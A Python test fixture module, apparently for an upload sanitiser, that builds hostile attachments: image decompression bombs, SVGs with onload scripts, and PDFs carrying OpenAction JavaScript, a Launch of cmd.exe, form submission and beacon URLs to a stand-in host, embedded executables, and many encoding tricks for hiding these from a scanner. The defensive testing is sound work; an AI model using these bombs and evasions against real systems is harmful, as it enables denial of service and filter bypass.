"""More kinds of files by which somebody means harm: pictures that move or carry profiles that unfold, and PDF that runs, hides or never ends."""

import struct
import zlib
from collections.abc import Mapping
from gzip import compress
from io import BytesIO

from PIL import Image

from tests.attachments.hostile import PDF, PLACE, png_that_says

_UNFOLDED = 200_000_000
"""Octets of a profile or a comment that comes in some hundred thousand."""


def _chunk(name: bytes, told: bytes) -> bytes:
    return struct.pack(">I", len(told)) + name + told + struct.pack(">I", zlib.crc32(name + told))


def _png_with(name: bytes, told: bytes) -> bytes:
    picture = png_that_says(1, 1, b"\0\0\0\0")
    return picture[:33] + _chunk(name, told) + picture[33:]


def profile_bomb() -> bytes:
    """A picture of one pixel whose colour profile unfolds."""
    return _png_with(b"iCCP", b"x\0\0" + zlib.compress(bytes(_UNFOLDED), 9))


def words_bomb() -> bytes:
    """The same in its international text."""
    return _png_with(b"iTXt", b"Comment\0\1\0\0\0" + zlib.compress(bytes(_UNFOLDED), 9))


def moving(kind: str, frames: int = 60) -> bytes:
    """A place stands in the metadata of it, and there are many pictures in one."""
    drawn = [Image.new("RGB", (300, 200), (each * 4, 0, 0)) for each in range(frames)]
    told = Image.Exif()
    told[0x010E] = PLACE.decode()
    file = BytesIO()
    drawn[0].save(file, kind, save_all=True, append_images=drawn[1:], exif=told, duration=10)
    return file.getvalue()


def crowded_jpeg() -> bytes:
    """Hundreds of comments and profiles of the largest size before one small picture."""
    file = BytesIO()
    Image.new("RGB", (20, 20)).save(file, "JPEG")
    return b"\xff\xd8" + (b"\xff\xe2\xff\xff" + bytes(65_533)) * 100 + file.getvalue()[2:]


def _of_a_camera(brand: bytes) -> bytes:
    return struct.pack(">I", 24) + b"ftyp" + brand + bytes(4) + b"mif1" + brand + bytes(200)


def _pdf(objects: bytes, trailer: bytes = b"<</Root 1 0 R>>") -> bytes:
    return b"%PDF-1.7\n" + objects + b"\ntrailer" + trailer + b"\n%%EOF\n"


NOT_TAKEN: Mapping[str, bytes] = {
    "heic": _of_a_camera(b"heic"),
    "avif": _of_a_camera(b"avif"),
    "film": _of_a_camera(b"mp42"),
    "tiff": b"II*\0\x08\0\0\0" + bytes(40),
    "bitmap": b"BM" + bytes(60),
    "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9999 9999\n",
    "svg-after-words": b'<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "aaaa">]><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "packed-svg": compress(b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'),
    "office": b"PK\x03\x04" + b"[Content_Types].xml" + bytes(60),
}
"""What a telephone or a desk makes and nobody here redraws: refused by its first octets."""


def _stream(says: bytes, holds: bytes) -> bytes:
    return b"7 0 obj<<" + says + b">>stream\n" + holds + b"\nendstream endobj\n"


_FOLDED_TOGETHER = b"/Type/ObjStm/N 1/First 4/Length 99"


def _packed(told: bytes, filtered: bytes = b"/Filter/FlateDecode") -> bytes:
    """A PDF whose objects are packed together."""
    return _pdf(_stream(_FOLDED_TOGETHER + filtered, zlib.compress(b"1 0 " + told)))


def _foretold(told: bytes) -> bytes:
    """In rows of four octets, each told by what it differs from the row above, as pictures are packed."""
    rows = [told[at : at + 4].ljust(4) for at in range(0, len(told), 4)]
    above = [bytes(4), *rows]
    return b"".join(b"\2" + bytes((each - over) % 256 for each, over in zip(row, up, strict=True)) for row, up in zip(rows, above, strict=False))


_SCRIPT = b"<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>"

_FLATE = _FOLDED_TOGETHER + b"/Filter/FlateDecode"
_FOLDED_SCRIPT = zlib.compress(b"1 0 " + _SCRIPT)
_ROWS = b"<</Predictor 12/Columns 4>>"
_IN_ROWS = zlib.compress(_foretold(b"1 0 " + _SCRIPT))
_HIDDEN: Mapping[str, bytes] = {
    "behind-an-object-in-words": b"/Filter/FlateDecode/DecodeParms" + _ROWS + b"/X(obj)" + _FOLDED_TOGETHER,
    "behind-a-stream-in-words": _FLATE + b"/X(stream)/DecodeParms" + _ROWS,
    "behind-words-that-go-on": _FLATE + b"/X(\\)>>stream()\n)/DecodeParms" + _ROWS,
    "named-shortly": _FLATE + b"/DP" + _ROWS,
    "untyped": b"/N 1/First 4/Filter/FlateDecode/DecodeParms" + _ROWS,
    "typed-as-a-table": b"/Type/XRef/#4e 1/First 4/Filter/FlateDecode/DecodeParms" + _ROWS,
}

ACTS: Mapping[str, bytes] = {
    "pdf-with-script": _pdf(b"1 0 obj" + _SCRIPT + b"endobj"),
    "pdf-with-script-spelled-by-numbers": _pdf(b"1 0 obj" + _SCRIPT.replace(b"JavaScript", b"J#61va#53cript") + b"endobj"),
    "pdf-with-packed-script": _packed(_SCRIPT),
    "pdf-with-packed-script-at-a-seam": _packed(bytes(256 * 1024 - 30) + _SCRIPT),
    "pdf-packed-in-another-way": _packed(_SCRIPT, b"/Filter[/ASCIIHexDecode/FlateDecode]"),
    "pdf-packed-in-a-way-behind-a-remark": _packed(_SCRIPT, b"/Filter/FlateDecode/DecodeParms<</Predictor 12>>%obj\n"),
    "pdf-that-starts-a-program": _pdf(b"1 0 obj<</Type/Catalog/AA<</O<</S/Launch/F(cmd.exe)>>>>>>endobj"),
    "pdf-that-sends": _pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/SubmitForm/F(https://x.invalid)>>>>endobj"),
    "pdf-with-files": _pdf(
        b"1 0 obj<</Type/Catalog/Names<</EmbeddedFiles<</Names[(a.exe)2 0 R]>>>>>>endobj 2 0 obj<</Type/EmbeddedFile>>stream\nMZ\nendstream endobj"
    ),
    "pdf-locked": _pdf(b"1 0 obj<</Type/Catalog>>endobj 2 0 obj<</Filter/Standard/V 5/R 6/O()/U()/P -1>>endobj", b"<</Root 1 0 R/Encrypt 2 0 R>>"),
    "pdf-that-unfolds-without-end": _pdf(b"1 0 obj<</Filter/FlateDecode>>stream\n" + zlib.compress(bytes(_UNFOLDED), 9) + b"\nendstream endobj"),
    "pdf-that-leads-to-a-file-elsewhere": _pdf(b"1 0 obj<</Type/Catalog/OpenAction<</S/GoToR/F(\\\\\\\\x.invalid\\\\a)>>>>endobj"),
    "pdf-packed-with-a-wrong-sum": _pdf(_stream(_FLATE, _FOLDED_SCRIPT[:-1] + bytes([_FOLDED_SCRIPT[-1] ^ 1]))),
    "pdf-packed-and-cut-before-its-sum": _pdf(_stream(_FLATE, _FOLDED_SCRIPT[:-4])),
    "pdf-packed-behind-an-empty-piece-that-only-readers-pass-over": _pdf(_stream(_FLATE, _FOLDED_SCRIPT[:2] + bytes(5) + _FOLDED_SCRIPT[2:])),
    "pdf-packed-twice": _pdf(_stream(_FOLDED_TOGETHER + b"/Filter[/FlateDecode/FlateDecode]", zlib.compress(_FOLDED_SCRIPT))),
    **{f"pdf-packed-in-rows-and-{name}": _pdf(_stream(says, _IN_ROWS)) for name, says in _HIDDEN.items()},
    "pdf-packed-in-letters-without-a-type": _pdf(_stream(b"/N 1/First 4/Filter[/ASCIIHexDecode/FlateDecode]", _FOLDED_SCRIPT.hex().encode() + b">")),
    "pdf-packed-behind-words-on-the-line": _pdf(_stream(_FLATE, _FOLDED_SCRIPT).replace(b"stream\n", b"stream %\n", 1)),
    "pdf-packed-in-what-a-remark-says": _pdf(b"6 0 obj%" + _stream(_HIDDEN["untyped"], _IN_ROWS).replace(b"stream\n", b"stream\r\n", 1)),
    "pdf-with-a-file-of-no-type": _pdf(
        b"1 0 obj<</Type/Catalog/AF[4 0 R]>>endobj 4 0 obj<</Type/Filespec/F(a.exe)/EF<</F 3 0 R>>>>endobj 3 0 obj<<>>stream\nMZ\nendstream endobj"
    ),
    "pdf-with-a-file-beside-words": _pdf(b"2 0 obj<</Type/Annot/Subtype/FileAttachment/FS 4 0 R>>endobj"),
    "pdf-drawn-from-elsewhere": _pdf(b"2 0 obj<</Subtype/Form/Ref<</F(\\\\x.invalid\\a)/Page 0>>>>stream\n\nendstream endobj"),
    "pdf-whose-stream-lies-elsewhere": _pdf(b"2 0 obj<</F(\\\\x.invalid\\a)/Length 0>>stream\n\nendstream endobj"),
    "pdf-from-the-web": _pdf(b"2 0 obj<</Type/Filespec/FS%\n/URL/F(https://x.invalid)>>endobj"),
    "pdf-that-tells-who-opened-it": _pdf(b"1 0 obj<</Type/Catalog/OpenAction<</D<00>/S/URI/URI(https://x.invalid)>>>>endobj"),
    "pdf-that-tells-it-by-numbers": _pdf(b"1 0 obj<</Type/Catalog/Open#41ction %\n<</S/U#52I/URI(https://x.invalid)>>>>endobj"),
    "pdf-that-tells-it-from-elsewhere": _pdf(b"1 0 obj<</Type/Catalog/OpenAction 05 0 R>>endobj 5 0 obj<</S/URI/URI(https://x.invalid)>>endobj"),
    "pdf-that-tells-it-from-among-others": _pdf(
        b"2 0 obj<</Type/Catalog/OpenAction 1 0 R>>endobj" + _stream(_FLATE, zlib.compress(b"1 0 <</S/URI/URI(https://x.invalid)>>"))
    ),
    "pdf-that-tells-it-from-one-among-others-to-another": _pdf(
        _stream(_FLATE, zlib.compress(b"1 0 <</Type/Catalog/OpenAction 2 0 R>>")) + b"2 0 obj<</S/URI/URI(https://x.invalid)>>endobj"
    ),
    "pdf-that-tells-who-turns-a-page": _packed(b"<</Type/Page/AA<</O<</S/URI/URI(https://x.invalid)>>>>>>"),
    "pdf-with-an-array-over-the-end": _pdf(_stream(b"/X[>>stream\n]" + _HIDDEN["untyped"], _IN_ROWS)),
}
"""Not taken, because people open what is kept: it runs, starts, sends or carries something, or hides whether it does."""

INERT: Mapping[str, bytes] = {
    "pdf-that-opens-on-a-page": _pdf(b"1 0 obj<</Type/Catalog/OpenAction[3 0 R/Fit]/Launches 1/JS 2>>endobj"),
    "pdf-packed": _packed(b"<</Type/Catalog/Lang(id)>>"),
    "pdf-packed-beside-a-drawing-and-a-table-in-rows": _packed(b"<</Type/Catalog/Lang(id)>>")
    + _stream(b"/Subtype/Image/Filter/FlateDecode/DecodeParms<</Colors 3/Predictor 15>>", _IN_ROWS)
    + _stream(b"/Type/XRef/W[1 2 1]/ID[(\\(obj)<00>]/Filter/FlateDecode/DecodeParms" + _ROWS, _IN_ROWS)
    + _stream(b"/N 3/Alternate/DeviceRGB/Filter[/FlateDecode]", zlib.compress(b"colours"))
    + _stream(b"/Subtype/Image/Filter/DCTDecode/ColorSpace[/Separation/Black/DeviceCMYK<</FunctionType 2/N 1>>]", b"\xff\xd8\xff\xe0"),
    "pdf-whose-page-is-packed-with-a-wrong-sum": _pdf(_stream(b"/Filter/FlateDecode", zlib.compress(b"BT (halo) Tj ET")[:-1] + b"\0")),
    "pdf-added-to": PDF + b"1 0 obj<</Type/Catalog/Changed true>>endobj\ntrailer<</Root 1 0 R/Prev 9>>\n%%EOF\n" * 500,
    "pdf-that-turns-round": _pdf(b"1 0 obj<</Type/Catalog/Pages 1 0 R/Kids[1 0 R]>>endobj", b"<</Root 1 0 R/Prev 0>>") + b"startxref\n0\n%%EOF",
    "pdf-with-a-link": _pdf(
        b"1 0 obj<</Type/Catalog/OpenAction 5 0 R>>endobj 5 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj"
        b"6 0 obj<</Type/Annot/F 4/Subtype/Link/A<</S/URI/URI(https://x.invalid)>>>>endobj 7 0 obj<</Type/StructElem/Ref[6 0 R]>>endobj"
    ),
    "pdf-with-a-packed-link": _pdf(
        _stream(_FLATE, zlib.compress(b"1 0 <</Type/Catalog/OpenAction 7 0 R>>"))
        + b"7 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj 8 0 obj<</S/URI/URI(https://x.invalid)>>endobj"
    ),
    "archive-as-pdf": b"%PDF-1.7\n" + b"PK\x03\x04" + bytes(60) + b"PK\x05\x06" + bytes(18),
}
"""Kept as it came, downloaded as octets and never shown here."""


def many_scans() -> bytes:
    """A picture that is drawn sixty times over, a little finer each time as its decoder believes."""
    picture = BytesIO()
    Image.new("RGB", (3_000, 3_000), "red").save(picture, "JPEG", progressive=True)
    drawn = picture.getvalue()
    scans = drawn[drawn.index(b"\xff\xda") : -2]
    return drawn[:-2] + scans * 60 + drawn[-2:]


def zeros() -> bytes:
    """As many pixels as are allowed, in a quarter of a megabyte."""
    side = 7_990
    head = (side).to_bytes(4, "big") * 2 + bytes([8, 6, 0, 0, 0])
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", zlib.compress(bytes((side * 4 + 1) * side), 9)) + _chunk(b"IEND", b"")


def pictures() -> Mapping[str, bytes]:
    """Made when they are asked for: some of them take memory to make."""
    return {
        "profile-bomb": profile_bomb(),
        "words-bomb": words_bomb(),
        "moving-webp": moving("WEBP"),
        "moving-png": moving("PNG"),
        "crowded-jpeg": crowded_jpeg(),
        "jpeg-drawn-over-and-over": many_scans(),
        "png-of-zeros": zeros(),
    }
